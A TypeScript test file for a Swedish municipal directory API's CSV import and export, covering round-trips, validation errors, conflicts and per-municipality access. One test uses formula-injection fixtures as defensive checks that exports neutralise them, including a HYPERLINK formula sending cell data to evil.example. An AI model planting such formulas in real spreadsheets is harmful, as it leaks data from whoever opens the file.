import { parse } from 'csv-parse/sync';
import { beforeEach, describe, expect, it } from 'vitest';
import { adminApp, snapshot, UMEA, VANNAS } from '../admin/support.js';
import { useRedis } from '../support/redis.js';

const ctx = useRedis();
let app: Awaited<ReturnType<typeof adminApp>>;

beforeEach(async () => {
  app = await adminApp(ctx);
});

/** Posts a CSV file as the API's clients do (the test app's `call` sends JSON). */
async function upload(path: string, csv: string, auth = app.admin) {
  const response = await app.t.app.request(path, {
    method: 'POST',
    headers: { authorization: `Bearer ${auth}`, 'content-type': 'text/csv' },
    body: csv,
  });
  return {
    status: response.status,
    body: (await response.json()) as Record<string, unknown> & {
      error?: { code: string; message: string; details?: unknown[] };
    },
  };
}

async function download(path: string) {
  const response = await app.t.app.request(path, { headers: { authorization: `Bearer ${app.admin}` } });
  return { status: response.status, type: response.headers.get('content-type'), text: await response.text() };
}

const GOOD = [
  'kind,givenName,familyName,name,title,keywords,phoneNumbers,extension,email,absenceReason,absenceUntil',
  'person,Åsa,Öberg,,Bygglovshandläggare,bygglov|strandskydd,0935-141 23|070-123 45 67,2460123,asa.oberg@vannas.se,,',
  'function,,,Färdtjänst,,färdtjänst,0935-141 50,,,,',
  'person,Bo,Ek,,,,,2460124,,meeting,2099-01-01T14:00:00+01:00',
].join('\n');

describe('directory CSV import and export', () => {
  it('imports every row of a good file, and exports the same shape back, which imports as unchanged', async () => {
    const imported = await upload(`/api/v1/directory/entries/import?municipality=${VANNAS}`, GOOD);
    expect(imported).toEqual({
      status: 200,
      body: { dryRun: false, rows: 3, created: 3, updated: 0, unchanged: 0, deleted: 0, problems: [] },
    });

    const exported = await download(`/api/v1/directory/entries/export?municipality=${VANNAS}`);
    expect(exported.type).toBe('text/csv; charset=utf-8');
    const lines = exported.text
      .replace(/^\uFEFF/, '')
      .trim()
      .split('\n');
    expect(lines[0]).toBe(
      'id,kind,givenName,familyName,name,title,department,keywords,location,phoneNumbers,extension,email,absenceReason,absenceText,absenceUntil',
    );
    expect(lines).toHaveLength(4);
    expect(exported.text).toContain(
      "Åsa,Öberg,Åsa Öberg,Bygglovshandläggare,,bygglov|strandskydd,,'+4693514123|+46701234567,2460123,asa.oberg@vannas.se,,,",
    );

    const again = await upload(`/api/v1/directory/entries/import?municipality=${VANNAS}&mode=replace`, exported.text);
    expect(again.body).toMatchObject({ rows: 3, created: 0, updated: 0, unchanged: 3, deleted: 0 });
  });

  it('exports cells a spreadsheet would run as formulas as text, and every column imports back unchanged', async () => {
    const hyperlink = '=HYPERLINK("http://evil.example/?q="&B2,"Öppna")';
    const entry = {
      kind: 'person',
      givenName: hyperlink,
      familyName: '@SUM(A1:A9)',
      title: '-2+3 (kalkyl)',
      department: '+Socialtjänsten',
      keywords: ['=bygglov', 'strandskydd'],
      location: "'=citerad redan",
      phoneNumbers: ['+46935141 23', '070-123 45 67'],
      extension: '2460123',
      email: 'asa.oberg@vannas.se',
      municipalityId: VANNAS,
      absence: { reason: 'meeting', text: '=1+1 tillbaka snart', until: '2099-01-01T14:00:00+01:00' },
    };
    const created = await app.t.call('POST', '/api/v1/directory/entries', { auth: app.admin, body: entry });
    expect(created.status, JSON.stringify(created.body)).toBe(201);
    const stored = (
      await app.t.call('GET', `/api/v1/directory/entries/${created.body.id as string}`, { auth: app.admin })
    ).body;

    const exported = await download(`/api/v1/directory/entries/export?municipality=${VANNAS}`);
    const [row] = parse(exported.text, { bom: true, columns: true }) as Record<string, string>[];
    expect(row).toMatchObject({
      givenName: `'${hyperlink}`,
      familyName: "'@SUM(A1:A9)",
      title: "'-2+3 (kalkyl)",
      department: "'+Socialtjänsten",
      keywords: "'=bygglov|strandskydd",
      location: "''=citerad redan",
      phoneNumbers: "'+4693514123|+46701234567",
      absenceText: "'=1+1 tillbaka snart",
    });
    expect(Object.values(row!).filter((cell) => /^[=+\-@\t\r]/.test(cell))).toEqual([]);

    const before = await snapshot(ctx);
    const again = await upload(`/api/v1/directory/entries/import?municipality=${VANNAS}&mode=replace`, exported.text);
    expect(again.body).toMatchObject({ rows: 1, created: 0, updated: 0, unchanged: 1, deleted: 0 });
    expect(await snapshot(ctx)).toEqual(before);
    expect(
      (await app.t.call('GET', `/api/v1/directory/entries/${created.body.id as string}`, { auth: app.admin })).body,
    ).toEqual(stored);
    expect(stored).toMatchObject({
      givenName: hyperlink,
      location: "'=citerad redan",
      phoneNumbers: ['+4693514123', '+46701234567'],
    });
  });

  it('reads a semicolon-separated file as Swedish Excel writes it', async () => {
    const semicolons = [
      'kind;name;keywords',
      'function;Bygglov;bygglov|bygglovshandläggning',
      'department;Socialtjänsten;',
    ].join('\r\n');
    expect((await upload(`/api/v1/directory/entries/import?municipality=${VANNAS}`, semicolons)).body).toMatchObject({
      created: 2,
    });
  });

  it('changes nothing when a row in the middle is bad; a dry run lists every bad row by line and column, the conflicting ones too', async () => {
    await upload(
      `/api/v1/directory/entries/import?municipality=${UMEA}`,
      'kind,name,extension\nfunction,Umeå växel,2480100',
    );
    const before = await snapshot(ctx);
    const bad = [
      'kind,givenName,familyName,name,phoneNumbers,extension,absenceReason',
      'person,Åsa,Öberg,,0935-141 23,2460123,',
      'person,,Tom,,,,',
      'function,,,Fel,12,,',
      'robot,,,R2,,,',
      'function,,,Krock,,2480100,',
      'function,,,Borta,,,napping',
      'person,Sista,Raden,,,2460999,',
    ].join('\n');

    const dry = await upload(`/api/v1/directory/entries/import?municipality=${VANNAS}&dryRun=true`, bad);
    expect(dry.status).toBe(200);
    expect((dry.body.problems as { line: number; column: string }[]).map((p) => `${p.line}:${p.column}`)).toEqual([
      '3:givenName',
      '4:phoneNumbers',
      '5:kind',
      '6:extension',
      '7:absenceReason',
    ]);
    expect(dry.body.problems).toContainEqual({
      line: 6,
      column: 'extension',
      problem: expect.stringContaining('Umeå växel (Umeå'),
    });

    // A real run is refused with the same list (400: some rows are wrong in themselves).
    const real = await upload(`/api/v1/directory/entries/import?municipality=${VANNAS}`, bad);
    expect(real.status).toBe(400);
    expect(real.body.error).toMatchObject({ code: 'invalid_rows' });
    expect(real.body.error!.details).toEqual(dry.body.problems);
    expect(await snapshot(ctx)).toEqual(before);

    // Once each row is right in itself, a value another municipality's entry holds is the problem, by line.
    const conflicting = bad
      .split('\n')
      .filter((_, i) => ![2, 3, 4, 6].includes(i))
      .join('\n');
    const conflict = await upload(`/api/v1/directory/entries/import?municipality=${VANNAS}`, conflicting);
    expect(conflict.status).toBe(409);
    expect(conflict.body.error!.details).toEqual([
      { line: 3, column: 'extension', problem: expect.stringContaining('Umeå växel (Umeå') },
    ]);
    expect(
      (await upload(`/api/v1/directory/entries/import?municipality=${VANNAS}&dryRun=true`, conflicting)).body.problems,
    ).toEqual(conflict.body.error!.details);
    expect(await snapshot(ctx)).toEqual(before);
  });

  it('says what is wrong with the file itself: unknown or missing columns, broken quoting, wrong content type', async () => {
    const unknown = await upload(
      `/api/v1/directory/entries/import?municipality=${VANNAS}`,
      'kind,name,colour\nfunction,X,red',
    );
    expect(unknown.body.error!.details).toEqual([
      { field: 'column colour', problem: expect.stringContaining('is not a known column') },
    ]);
    const missing = await upload(`/api/v1/directory/entries/import?municipality=${VANNAS}`, 'name\nX');
    expect(missing.body.error!.details).toEqual([{ field: 'column kind', problem: 'is required' }]);
    const broken = await upload(
      `/api/v1/directory/entries/import?municipality=${VANNAS}`,
      'kind,name\nfunction,"X\nfunction,Y',
    );
    expect(broken).toMatchObject({ status: 400, body: { error: { code: 'invalid_csv' } } });
    const json = await app.send('POST', `/api/v1/directory/entries/import?municipality=${VANNAS}`, {
      body: { kind: 'function' },
    });
    expect(json.status).toBe(415);
  });

  it('imports only into a member municipality, and keeps the ids the API’s paths use', async () => {
    const before = await snapshot(ctx);
    const outside = await upload('/api/v1/directory/entries/import?municipality=9999', GOOD);
    expect(outside).toMatchObject({
      status: 400,
      body: {
        error: {
          code: 'invalid_request',
          details: [{ field: 'municipalityId', problem: '9999 is not a member municipality (config/region.yaml)' }],
        },
      },
    });
    const dry = await upload('/api/v1/directory/entries/import?municipality=9999&dryRun=true', GOOD);
    expect(dry.status).toBe(400);

    const reserved = await upload(
      `/api/v1/directory/entries/import?municipality=${VANNAS}&dryRun=true`,
      'id,kind,name\nexport,function,Export\nok,function,Ok\nimport,function,Import',
    );
    expect(reserved.body.problems).toEqual([
      { line: 2, column: 'id', problem: expect.stringContaining('is reserved') },
      { line: 4, column: 'id', problem: expect.stringContaining('is reserved') },
    ]);
    expect(await snapshot(ctx)).toEqual(before);
  });

  it('keeps a municipality admin to their own municipality', async () => {
    const vannasAdmin = await app.t.tokenFor('municipality-admin', VANNAS);
    expect((await upload(`/api/v1/directory/entries/import?municipality=${UMEA}`, GOOD, vannasAdmin)).status).toBe(403);
    expect((await upload('/api/v1/directory/entries/import', GOOD, vannasAdmin)).body).toMatchObject({ created: 3 });
    expect((await upload('/api/v1/directory/entries/import', GOOD)).body.error).toMatchObject({
      message: expect.stringContaining('query.municipality'),
    });
  });
});
